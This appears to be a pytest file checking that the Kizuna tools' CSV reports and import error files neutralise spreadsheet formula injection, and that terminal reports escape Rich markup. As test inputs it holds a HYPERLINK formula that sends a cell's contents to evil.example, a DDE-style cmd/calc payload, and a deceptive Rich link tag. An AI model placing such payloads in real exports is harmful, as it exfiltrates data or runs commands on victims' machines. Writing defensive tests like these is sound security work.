"""What Kizuna's tools write out from customers' and producers' text: a report CSV or an
import's error file a spreadsheet opens shows that text, never runs it as a formula; a
report printed in the terminal shows it as text, never as Rich markup (a crash, or a link
that hides its target)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

import kizuna_tools.cli.report as report_cli
from kizuna.runtime.config import KizunaConfig
from kizuna.scoring.snapshot import row_for
from kizuna_tools.cli import app
from kizuna_tools.reports.build import Ledger, segment_analysis
from kizuna_tools.reports.document import Table, segment_table
from tests.factories import T0, customer, parsed, upsert

FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _segments(**fields: str) -> Table:
    parsed(upsert("c1", T0, "e1", **fields))  # a producer's customer.upserted takes them
    rows = [row_for(customer("c1", **fields), T0, KizunaConfig())]
    return segment_table(segment_analysis(rows, Ledger()))


def test_a_report_csv_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    # given a segments table whose values came from a producer
    table = _segments(occupation=FORMULA, prefecture="-2+3")
    # when it is written as `kizuna report segments --csv DIR` writes it
    table.write_csv(tmp_path / "segments.csv")
    rows = list(csv.reader((tmp_path / "segments.csv").open(encoding="utf-8")))
    cells = [c for row in rows for c in row]
    # then no cell starts a formula, and the text is all there
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert f"'{FORMULA}" in cells and "'-2+3" in cells


def test_an_import_error_file_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    # given an import file whose own keys are formulas (the error text starts with the key)
    path = tmp_path / "customers.jsonl"
    at = "2026-01-01T00:00:00Z"
    rows = [
        {"customer_id": "c1", "updated_at": at, FORMULA: None},
        {"customer_id": "c2", "updated_at": at, "+cmd|' /C calc'!A0": ""},
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "errors.csv"
    # when a dry run writes its rejected rows
    args = ["import", "customers", str(path), "--dry-run", "--errors-csv", str(out)]
    CliRunner().invoke(app, args)
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    # then both rows are there, and no cell starts a formula
    assert len(cells) == 6
    assert not [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("occupation", ["[/]", "[link=https://evil.example]Tokyo[/link]"])
def test_a_printed_report_shows_data_as_text(
    monkeypatch: pytest.MonkeyPatch, occupation: str
) -> None:
    shown = io.StringIO()
    monkeypatch.setattr(report_cli, "out", Console(file=shown, width=300, force_terminal=True))
    report_cli._print(_segments(occupation=occupation))  # what `kizuna report segments` does
    assert occupation in shown.getvalue()
